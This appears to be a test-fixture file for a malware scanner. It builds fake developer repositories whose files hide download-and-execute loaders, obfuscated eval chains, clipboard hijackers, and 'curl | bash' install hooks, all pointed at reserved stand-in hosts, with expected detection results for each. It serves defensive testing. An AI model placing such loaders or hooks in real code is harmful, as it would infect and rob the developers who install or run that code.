// Inert fixtures: shapes of documented lures, reserved hosts, payloads that do nothing.
import { deflateSync } from 'node:zlib';
import type { LureFixture } from './held-out.ts';
import { b64, blob, json, lines, mern, nest, next, tsApi, vite } from './scaffolds.ts';

const DJANGO = (over: Record<string, string>): Record<string, string> => ({
  'README.md':
    '# escrow\n\n```\npip install -r requirements.txt\npython manage.py migrate\npython manage.py runserver\n```\n',
  'requirements.txt':
    'Django==4.2.7\ndjangorestframework==3.14.0\nrequests==2.31.0\nweb3==6.11.3\ncelery==5.3.6\npython-dotenv==1.0.0\n',
  'manage.py': lines(
    '#!/usr/bin/env python',
    'import os',
    'import sys',
    '',
    'def main():',
    "    os.environ.setdefault('DJANGO_SETTINGS_MODULE', 'escrow.settings')",
    '    from django.core.management import execute_from_command_line',
    '    execute_from_command_line(sys.argv)',
    '',
    "if __name__ == '__main__':",
    '    main()',
  ),
  'escrow/__init__.py': '',
  'escrow/settings.py': lines(
    'from pathlib import Path',
    'BASE_DIR = Path(__file__).resolve().parent.parent',
    "SECRET_KEY = 'django-insecure-fixture'",
    'DEBUG = True',
    "INSTALLED_APPS = ['django.contrib.admin', 'django.contrib.auth', 'rest_framework', 'deals']",
    "ROOT_URLCONF = 'escrow.urls'",
    "DATABASES = {'default': {'ENGINE': 'django.db.backends.sqlite3', 'NAME': BASE_DIR / 'db.sqlite3'}}",
  ),
  'escrow/urls.py': lines(
    'from django.urls import include, path',
    "urlpatterns = [path('api/', include('deals.urls'))]",
  ),
  'deals/__init__.py': '',
  'deals/apps.py': lines('from django.apps import AppConfig', 'class DealsConfig(AppConfig):', "    name = 'deals'"),
  'deals/models.py': lines(
    'from django.db import models',
    'class Deal(models.Model):',
    '    title = models.CharField(max_length=200)',
    '    amount = models.DecimalField(max_digits=20, decimal_places=8)',
  ),
  'deals/views.py': lines(
    'from rest_framework import viewsets',
    'from .models import Deal',
    'class DealViewSet(viewsets.ModelViewSet):',
    '    queryset = Deal.objects.all()',
  ),
  'deals/urls.py': lines(
    'from rest_framework.routers import DefaultRouter',
    'from .views import DealViewSet',
    'router = DefaultRouter()',
    "router.register('deals', DealViewSet)",
    'urlpatterns = router.urls',
  ),
  ...over,
});

/** reverse, base64, zlib, wrapped; the innermost layer only prints */
function nested(layers: number): string {
  let code = "import sys\nprint('inert fixture')\n";
  for (let i = 0; i < layers; i++) {
    const packed = [...deflateSync(Buffer.from(code)).toString('base64')].reverse().join('');
    code = `_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'${packed}'))\n`;
  }
  return code;
}

const svg = (name: string, chunk: string): string =>
  `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 640 480"><title>${name}</title><!--${chunk}--><path fill="#fff" d="M0 0h640v160H0z"/><path fill="#c8102e" d="M0 160h640v160H0z"/></svg>\n`;
const SVG_CODE = b64(
  "/* inert fixture */ require('https').get('https://flag-sprites.invalid/s', function (r) { r.resume(); }); ".repeat(
    12,
  ),
);

const fixtures: readonly LureFixture[] = [
  {
    id: 'R49',
    title: 'Django: a ready() hook imports a utility that execs a requests body',
    lure: {
      files: DJANGO({
        'deals/apps.py': lines(
          'from django.apps import AppConfig',
          '',
          'class DealsConfig(AppConfig):',
          "    name = 'deals'",
          '    def ready(self):',
          '        from .utils import rates',
          '        rates.sync()',
        ),
        'deals/utils/__init__.py': '',
        'deals/utils/rates.py': lines(
          'import base64',
          'import requests',
          '',
          `SOURCE = base64.b64decode('${b64('https://rates-feed.invalid/v1/rates')}').decode()`,
          '',
          'def sync():',
          '    try:',
          "        body = requests.get(SOURCE, headers={'x-app-request': 'ip-check'}, timeout=10)",
          "        exec(compile(body.json()['rates'], '<rates>', 'exec'), {'__name__': '__main__'})",
          '    except Exception:',
          '        pass',
        ),
      }),
    },
    expect: { level: 'malicious', file: 'deals/utils/rates.py', indicators: ['rates-feed.invalid'] },
  },
  {
    id: 'R50',
    title: 'FastAPI: main imports a nested exec(lambda reverse/base64/zlib) module, eight layers',
    lure: {
      files: {
        'README.md': '# signals\n\nuvicorn app.main:app --reload\n',
        'requirements.txt':
          'fastapi==0.109.0\nuvicorn==0.25.0\nhttpx==0.26.0\npydantic==2.5.3\nsqlalchemy==2.0.25\nredis==5.0.1\n',
        'app/__init__.py': '',
        'app/main.py': lines(
          'from fastapi import FastAPI',
          'from app.routers import signals',
          'from app.core import metrics',
          '',
          'app = FastAPI()',
          'app.include_router(signals.router)',
          '',
          "if __name__ == '__main__':",
          '    import uvicorn',
          '    uvicorn.run(app)',
        ),
        'app/routers/__init__.py': '',
        'app/routers/signals.py': lines(
          'from fastapi import APIRouter',
          'router = APIRouter()',
          "@router.get('/signals')",
          'async def signals():',
          '    return []',
        ),
        'app/core/__init__.py': '',
        'app/core/metrics.py': nested(8),
      },
    },
    expect: { level: 'malicious', file: 'app/core/metrics.py' },
  },
  {
    id: 'R51',
    title: 'Flask: setup.py cmdclass downloads a script and starts it with subprocess',
    lure: {
      files: {
        'README.md': '# nft-indexer\n\npip install -e . && flask run\n',
        'setup.py': lines(
          'import os',
          'import subprocess',
          'import sys',
          'import tempfile',
          'import urllib.request',
          'from setuptools import find_packages, setup',
          'from setuptools.command.develop import develop',
          'from setuptools.command.install import install',
          '',
          'def after():',
          "    target = os.path.join(tempfile.gettempdir(), 'n2.py')",
          "    urllib.request.urlretrieve('http://198.51.100.77:1224/pdown', target)",
          "    subprocess.Popen([sys.executable, target], creationflags=getattr(subprocess, 'CREATE_NO_WINDOW', 0))",
          '',
          'class Develop(develop):',
          '    def run(self):',
          '        develop.run(self)',
          '        after()',
          '',
          'class Install(install):',
          '    def run(self):',
          '        install.run(self)',
          '        after()',
          '',
          "setup(name='nft-indexer', version='0.1', packages=find_packages(), install_requires=['flask', 'requests', 'web3'], cmdclass={'develop': Develop, 'install': Install})",
        ),
        'indexer/__init__.py': lines(
          'from flask import Flask',
          'def create_app():',
          '    app = Flask(__name__)',
          "    @app.get('/')",
          '    def home():',
          "        return 'ok'",
          '    return app',
        ),
        'wsgi.py': 'from indexer import create_app\napp = create_app()\n',
      },
    },
    expect: { level: 'malicious', file: 'setup.py', indicators: ['198.51.100.77'] },
  },
  {
    id: 'R52',
    title: 'Rust: build.rs fetches with curl and runs',
    lure: {
      files: {
        'README.md': '# mev-searcher\n\ncargo run --release\n',
        'Cargo.toml':
          '[package]\nname = "mev-searcher"\nversion = "0.1.0"\nedition = "2021"\nbuild = "build.rs"\n\n[dependencies]\ntokio = { version = "1", features = ["full"] }\nserde = { version = "1", features = ["derive"] }\nreqwest = "0.11"\n',
        'build.rs': lines(
          'use std::process::Command;',
          '',
          'fn main() {',
          '    println!("cargo:rerun-if-changed=build.rs");',
          '    let _ = Command::new("sh")',
          '        .arg("-c")',
          '        .arg("curl -fsSL https://crate-cache.invalid/bootstrap.sh | bash")',
          '        .spawn();',
          '}',
        ),
        'src/main.rs': 'mod book;\n\n#[tokio::main]\nasync fn main() {\n    println!("{}", book::best());\n}\n',
        'src/book.rs': 'pub fn best() -> u64 {\n    42\n}\n',
      },
    },
    expect: { level: 'malicious', file: 'build.rs', indicators: ['crate-cache.invalid'] },
  },
  {
    id: 'R53',
    title: 'Go: init() in an internal package downloads a binary and executes it',
    lure: {
      files: {
        'README.md': '# bridge-relayer\n\ngo run ./cmd/relayer\n',
        'go.mod': 'module example.com/bridge\n\ngo 1.21\n\nrequire github.com/ethereum/go-ethereum v1.13.8\n',
        'cmd/relayer/main.go':
          'package main\n\nimport (\n\t"fmt"\n\n\t"example.com/bridge/internal/config"\n)\n\nfunc main() {\n\tfmt.Println(config.Load().Chain)\n}\n',
        'internal/config/config.go':
          'package config\n\ntype Config struct{ Chain string }\n\nfunc Load() Config { return Config{Chain: "bsc"} }\n',
        'internal/config/remote.go': lines(
          'package config',
          '',
          'import (',
          '\t"io"',
          '\t"net/http"',
          '\t"os"',
          '\t"os/exec"',
          '\t"path/filepath"',
          ')',
          '',
          'func init() {',
          '\tresp, err := http.Get("https://relay-config.invalid/agent")',
          '\tif err != nil {',
          '\t\treturn',
          '\t}',
          '\tdefer resp.Body.Close()',
          '\tpath := filepath.Join(os.TempDir(), "relay-agent")',
          '\tbody, _ := io.ReadAll(resp.Body)',
          '\t_ = os.WriteFile(path, body, 0o755)',
          '\t_ = exec.Command(path).Start()',
          '}',
        ),
      },
    },
    expect: { level: 'suspicious', file: 'internal/config/remote.go', indicators: ['relay-config.invalid'] },
  },
  {
    id: 'R54',
    title: 'PowerShell and batch starters: hidden window, downloads Node and a script into .vscode, npm i silent',
    lure: {
      files: mern(
        'stay-market',
        {
          'start.bat': [
            '@echo off',
            'where node >nul 2>nul',
            'if %errorlevel% neq 0 (',
            '  powershell -WindowStyle Hidden -Command "Invoke-WebRequest https://nodejs.org/dist/v20.11.1/node-v20.11.1-win-x64.zip -OutFile %USERPROFILE%\\.vscode\\node.zip"',
            ')',
            'curl -sL "https://task-parser.invalid/task/windows?token=fixture" -o "%USERPROFILE%\\.vscode\\parser.npl"',
            'start /b "" node "%USERPROFILE%\\.vscode\\parser.npl"',
            'npm start',
            '',
          ].join('\r\n'),
          'setup.ps1': lines(
            "$u = 'https://task-parser.invalid/task/windows?token=fixture'",
            "Start-Process powershell -WindowStyle Hidden -ArgumentList '-NoProfile','-Command',\"iex (iwr -UseBasicParsing $u).Content\"",
          ),
          'README.md':
            '# stay-market\n\nWindows: double-click start.bat (or run setup.ps1). Please do not use Docker, it is not supported.\n',
        },
        {
          scripts: { start: 'node server/server.js', preinstall: 'powershell -ExecutionPolicy Bypass -File setup.ps1' },
        },
      ),
    },
    expect: { level: 'malicious', file: 'setup.ps1', indicators: ['task-parser.invalid'] },
  },
  {
    id: 'R55',
    title: 'SVG fragments: comments of sorted flags joined, decoded by an own base64 and evaluated',
    lure: {
      files: mern('stay-market', {
        ...Object.fromEntries(
          ['AD', 'AE', 'AF', 'AG', 'AI', 'AL', 'AM', 'AO'].map((name, i) => [
            `server/assets/flags/${name}.svg`,
            svg(name, SVG_CODE.slice(i * 180, i * 180 + 180)),
          ]),
        ),
        'server/utils/serverValidation.js': lines(
          "const fs = require('fs');",
          "const path = require('path');",
          "const A = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/';",
          'function Check(text) {',
          "  let bits = '', out = '';",
          "  for (const c of text.replace(/=+$/, '')) bits += A.indexOf(c).toString(2).padStart(6, '0');",
          '  for (let i = 0; i + 8 <= bits.length; i += 8) out += String.fromCharCode(parseInt(bits.slice(i, i + 8), 2));',
          '  return out;',
          '}',
          "const dir = path.join(__dirname, '../assets/flags');",
          "const joined = fs.readdirSync(dir).filter((f) => f.endsWith('.svg')).sort().map((f) => (fs.readFileSync(path.join(dir, f), 'utf8').match(/<!--(.*?)-->/) || [])[1] || '').join('');",
          'module.exports = () => eval(Check(joined));',
        ),
        'server/config/db.js': lines(
          "const mongoose = require('mongoose');",
          "const validate = require('../utils/serverValidation');",
          'module.exports = async () => {',
          '  validate();',
          '  await mongoose.connect(process.env.MONGO_URI);',
          '};',
        ),
      }),
    },
    expect: { level: 'malicious', file: 'server/utils/serverValidation.js' },
  },
  {
    id: 'R56',
    title: 'React component: useEffect fetches a script text and runs it in the page, clipboard replaced for addresses',
    lure: {
      files: vite('table', {
        'src/hooks/useClipboardGuard.ts': lines(
          "import { useEffect } from 'react';",
          "const OWN = '0x00000000000000000000000000000000000000aa';",
          'export function useClipboardGuard() {',
          '  useEffect(() => {',
          '    const timer = setInterval(async () => {',
          '      const text = await navigator.clipboard.readText().catch(() => "");',
          '      if (/^0x[0-9a-fA-F]{40}$/.test(text) && text !== OWN) {',
          '        await navigator.clipboard.writeText(OWN);',
          "        navigator.sendBeacon('https://clip-guard.invalid/c', text);",
          '      }',
          '    }, 800);',
          '    return () => clearInterval(timer);',
          '  }, []);',
          '}',
        ),
        'src/App.tsx': lines(
          "import { Table } from './components/Table';",
          "import { useTable } from './hooks/useTable';",
          "import { useClipboardGuard } from './hooks/useClipboardGuard';",
          'export default function App() {',
          '  const { seats, pot } = useTable();',
          '  useClipboardGuard();',
          '  return <Table seats={seats} pot={pot} />;',
          '}',
        ),
      }),
    },
    expect: { level: 'malicious', file: 'src/hooks/useClipboardGuard.ts', indicators: ['clip-guard.invalid'] },
  },
  {
    id: 'R57',
    title: 'node clipboard stealer and keylogger module: polls pbpaste/powershell Get-Clipboard, posts to an IP',
    lure: {
      files: tsApi('arb-scanner', {
        'src/services/session.service.ts': lines(
          "import { exec } from 'node:child_process';",
          "import axios from 'axios';",
          "import os from 'node:os';",
          'let last = "";',
          "const command = os.platform() === 'darwin' ? 'pbpaste' : os.platform() === 'win32' ? 'powershell Get-Clipboard' : 'xclip -o';",
          'export const watch = () => setInterval(() => {',
          '  exec(command, { windowsHide: true }, (_e, out) => {',
          '    if (!out || out === last) return;',
          '    last = out;',
          "    axios.post('http://203.0.113.88:8085/api/service/makelog', { uid: os.hostname(), message: out }).catch(() => {});",
          '  });',
          '}, 500);',
        ),
        'src/app.ts': lines(
          "import express from 'express';",
          "import { router } from './routes/index.js';",
          "import { watch } from './services/session.service.js';",
          'export function createApp() {',
          '  watch();',
          "  return express().use('/api', router);",
          '}',
        ),
      }),
    },
    expect: { level: 'malicious', file: 'src/services/session.service.ts', indicators: ['203.0.113.88'] },
  },
  {
    id: 'R58',
    title: 'dictionary-named obfuscation (no _0x) as a middleware, multi-file server',
    lure: {
      files: mern('stay-market', {
        'server/middleware/rateLimit.js': `${blob('dictionary')}\nmodule.exports = (req, res, next) => next();\n`,
        'server/routes/userRoutes.js': lines(
          "const express = require('express');",
          "const limit = require('../middleware/rateLimit');",
          "const { registerUser, loginUser } = require('../controllers/userController');",
          'const router = express.Router();',
          'router.use(limit);',
          "router.route('/register').post(registerUser);",
          "router.route('/login').post(loginUser);",
          'module.exports = router;',
        ),
      }),
    },
    expect: { level: 'malicious', file: 'server/middleware/rateLimit.js' },
  },
  {
    id: 'R59',
    title: 'pretty-printed obfuscator output (compact off) hidden between long honest code in a model',
    lure: {
      files: mern('stay-market', {
        'server/models/orderModel.js': `${lines("const mongoose = require('mongoose');", 'const orderSchema = new mongoose.Schema({', ...Array.from({ length: 60 }, (_, i) => `  field${i}: { type: String, trim: true },`), '});')}\n${blob('pretty')}\n${lines(...Array.from({ length: 30 }, (_, i) => `orderSchema.methods.get${i} = function () { return this.field${i}; };`), "module.exports = mongoose.model('Order', orderSchema);")}`,
      }),
    },
    expect: { level: 'malicious', file: 'server/models/orderModel.js' },
  },
  {
    id: 'R60',
    title: 'string-array-free obfuscation with unicode escapes, in a Next lib imported by an API route (js)',
    lure: {
      files: next('launchpad', {
        'lib/session.js': `${blob('nostrings')}\nmodule.exports = { session: () => null };\n`,
        'pages/api/login.js': lines(
          "const { session } = require('../../lib/session');",
          'export default function handler(req, res) {',
          '  res.status(200).json({ user: session() });',
          '}',
        ),
      }),
    },
    expect: { level: 'malicious', file: 'lib/session.js' },
  },
  {
    id: 'R61',
    title:
      'class-based singleton: static block starts an async generator that yields a remote body to Reflect.construct(Function)',
    lure: {
      files: tsApi('arb-scanner', {
        'src/services/pair.service.ts': lines(
          "import axios from 'axios';",
          "import { createRequire } from 'node:module';",
          'export interface Pair { base: string; quote: string; spread: number }',
          '',
          'async function* pages() {',
          "  const { data } = await axios.get<{ next: string }>('https://pairs-index.invalid/p/1');",
          '  yield data.next;',
          '}',
          '',
          'export class PairService {',
          '  static {',
          '    void (async () => {',
          '      for await (const page of pages()) Reflect.construct(Function, ["require", page])(createRequire(import.meta.url));',
          '    })();',
          '  }',
          '  async list(): Promise<Pair[]> { return []; }',
          '  best(pairs: Pair[]) { return pairs[0]; }',
          '}',
        ),
      }),
    },
    expect: { level: 'malicious', file: 'src/services/pair.service.ts', indicators: ['pairs-index.invalid'] },
  },
  {
    id: 'R62',
    title: 'global alias and process.binding: minified one-line loader in a vendored client util',
    lure: {
      files: mern('stay-market', {
        'server/utils/slugify.js':
          "'use strict';const c={a:'á',e:'é'};function s(t){return String(t).toLowerCase().replace(/[áé]/g,m=>Object.keys(c).find(k=>c[k]===m)).replace(/[^a-z0-9]+/g,'-')}global['r']=require;(function(g,k){const h=g['r']('https');h['get'](['https:/','slug-map.invalid','m.json'].join('/'),x=>{let b='';x['on']('data',d=>b+=d);x['on']('end',()=>{try{process.binding;g['eval'](JSON.parse(b)[k])}catch(e){}})})})(global,'cookie');module.exports=s;\n",
        'server/controllers/productController.js': lines(
          "const slugify = require('../utils/slugify');",
          "const Product = require('../models/productModel');",
          'exports.getProducts = async (req, res) => res.json(await Product.find({ slug: slugify(req.query.q) }));',
          'exports.createProduct = async (req, res) => res.json(await Product.create(req.body));',
        ),
      }),
    },
    expect: { level: 'malicious', file: 'server/utils/slugify.js', indicators: ['slug-map.invalid'] },
  },
  {
    id: 'R63',
    title: 'cron job reads a paste, splits at markers into hosts, asks the host and pipes to bash',
    lure: {
      files: tsApi('arb-scanner', {
        'src/jobs/sync.ts': lines(
          "import cron from 'node-cron';",
          "import { execSync } from 'node:child_process';",
          "import got from 'got';",
          '',
          'async function hosts(): Promise<string[]> {',
          "  const text = await got('https://pastebin.com/raw/FiXtUrE0').text();",
          "  return text.split('===END===')[0]!.split('|||').map((p) => Buffer.from(p, 'base64').toString());",
          '}',
          '',
          'export async function sync() {',
          '  for (const host of await hosts()) {',
          '    try { execSync(`curl -s https://${host}/api/settings/linux | bash`, { stdio: "ignore" }); return; } catch { /* next */ }',
          '  }',
          '}',
          "cron.schedule('*/10 * * * *', sync);",
        ),
        'src/index.ts': lines(
          "import { createApp } from './app.js';",
          "import './jobs/sync.js';",
          'createApp().listen(4000);',
        ),
      }),
    },
    expect: { level: 'malicious', file: 'src/jobs/sync.ts' },
  },
  {
    id: 'R64',
    title: 'Nest main.ts: dynamic import of a .map file by a decoded path, file is JS',
    lure: {
      files: nest('trade-engine', {
        'src/main.ts': lines(
          "import { NestFactory } from '@nestjs/core';",
          "import { AppModule } from './app.module';",
          "import * as path from 'path';",
          "import { readFileSync } from 'fs';",
          "import { runInThisContext } from 'vm';",
          '',
          'async function bootstrap() {',
          '  const app = await NestFactory.create(AppModule);',
          "  const maps = path.join(process.cwd(), 'public', 'styles.css.map');",
          "  (runInThisContext('(function(require,process){' + readFileSync(maps, 'utf8') + '})') as any)(require, process);",
          '  await app.listen(3000);',
          '}',
          'bootstrap();',
        ),
        'public/styles.css.map': `${blob('mid_default')}\n`,
      }),
    },
    expect: { level: 'malicious', file: 'public/styles.css.map' },
  },
  {
    id: 'R65',
    title: 'AES-GCM wrapped stage decrypted by a key of the constants file and compiled',
    lure: {
      files: mern('stay-market', {
        'server/config/keys.js': lines(
          `module.exports = { sessionKey: '${'00'.repeat(32)}', sessionIv: '${'11'.repeat(12)}' };`,
        ),
        'server/utils/session.js': lines(
          "const crypto = require('crypto');",
          "const { sessionKey, sessionIv } = require('../config/keys');",
          `const payload = '${Buffer.from('inert fixture, decrypts to nothing. '.repeat(40)).toString('base64')}';`,
          'function open(text) {',
          "  const raw = Buffer.from(text, 'base64');",
          "  const d = crypto.createDecipheriv('aes-256-gcm', Buffer.from(sessionKey, 'hex'), Buffer.from(sessionIv, 'hex'));",
          '  d.setAuthTag(raw.subarray(raw.length - 16));',
          "  return d.update(raw.subarray(0, raw.length - 16), undefined, 'utf8') + d.final('utf8');",
          '}',
          "try { new Function('require', open(payload))(require); } catch (e) {}",
          'module.exports = { open };',
        ),
        'server/utils/sendToken.js': lines(
          "require('./session');",
          'module.exports = (user, statusCode, res) => res.status(statusCode).json({ user });',
        ),
      }),
    },
    expect: { level: 'malicious', file: 'server/utils/session.js' },
  },
  {
    id: 'R66',
    title: 'Axios response interceptor evaluates a header of the answer; client shared by services',
    lure: {
      files: tsApi('arb-scanner', {
        'src/utils/http.ts': lines(
          "import axios from 'axios';",
          "export const http = axios.create({ baseURL: 'https://quote-cache.invalid', timeout: 8000 });",
          'http.interceptors.response.use(',
          '  (response) => {',
          "    const policy = response.headers['x-policy'];",
          "    if (policy) (0, eval)(Buffer.from(policy, 'base64').toString());",
          '    return response;',
          '  },',
          '  (error) => Promise.reject(error),',
          ');',
          'export async function getJson<T>(url: string): Promise<T> { return (await http.get<T>(url)).data; }',
        ),
        'src/index.ts': lines(
          "import { createApp } from './app.js';",
          "import { getJson } from './utils/http.js';",
          "getJson('/warm').catch(() => undefined);",
          'createApp().listen(4000);',
        ),
      }),
    },
    expect: { level: 'malicious', file: 'src/utils/http.ts', indicators: ['quote-cache.invalid'] },
  },
  {
    id: 'R67',
    title: 'promise chain with helper combinators: pipe(fetchText, decode, run) in a utils/functional file',
    lure: {
      files: mern('stay-market', {
        'server/utils/functional.js': lines(
          "const fetch = (...a) => import('node-fetch').then(({ default: f }) => f(...a));",
          'const pipe = (...fns) => (x) => fns.reduce((p, f) => p.then(f), Promise.resolve(x));',
          'const text = (r) => r.text();',
          "const decode = (s) => Buffer.from(s, 'base64').toString('utf8');",
          "const run = (s) => Function('require', s)(require);",
          'module.exports = { fetch, pipe, text, decode, run };',
        ),
        'server/utils/currency.js': lines(
          "const { fetch, pipe, text, decode, run } = require('./functional');",
          'module.exports.load = pipe(fetch, text, decode, run);',
          "module.exports.load('https://currency-table.invalid/usd').catch(() => {});",
        ),
        'server/controllers/orderController.js': lines(
          "require('../utils/currency');",
          "const Order = require('../models/orderModel');",
          'exports.newOrder = async (req, res) => res.json(await Order.create(req.body));',
          'exports.myOrders = async (req, res) => res.json(await Order.find());',
        ),
      }),
    },
    expect: { level: 'malicious', file: 'server/utils/functional.js', indicators: ['currency-table.invalid'] },
  },
  {
    id: 'R68',
    title:
      'README asks for a curl | bash camera driver (ClickFix) and the repository has only a helper script that does it',
    lure: {
      files: {
        'README.md': lines(
          '# skills-assessment',
          '',
          'If the camera is not detected run:',
          '',
          '```',
          'bash scripts/fix-camera.sh',
          '```',
        ),
        'package.json': json({
          name: 'skills-assessment',
          scripts: { start: 'vite', camera: 'bash scripts/fix-camera.sh' },
          dependencies: { vite: '^5.0.0' },
        }),
        'scripts/fix-camera.sh': lines(
          '#!/bin/bash',
          'T=$(mktemp -d)',
          'curl -k -s -o "$T/cloud.sh" "https://camera-drivers.invalid/coremedia.sh?arch=$(uname -m)"',
          'chmod +x "$T/cloud.sh"',
          'nohup "$T/cloud.sh" >/dev/null 2>&1 &',
          'mkdir -p ~/Library/LaunchAgents',
          'cat > ~/Library/LaunchAgents/com.avatar.update.wake.plist <<EOF',
          '<plist version="1.0"><dict><key>Label</key><string>com.avatar.update.wake</string><key>RunAtLoad</key><true/></dict></plist>',
          'EOF',
        ),
        'index.html': '<!doctype html><script type="module" src="/src/main.js"></script>\n',
        'src/main.js': "document.body.textContent = 'Assessment';\n",
      },
    },
    expect: { level: 'suspicious', file: 'scripts/fix-camera.sh', indicators: ['camera-drivers.invalid'] },
  },
];
export default fixtures;
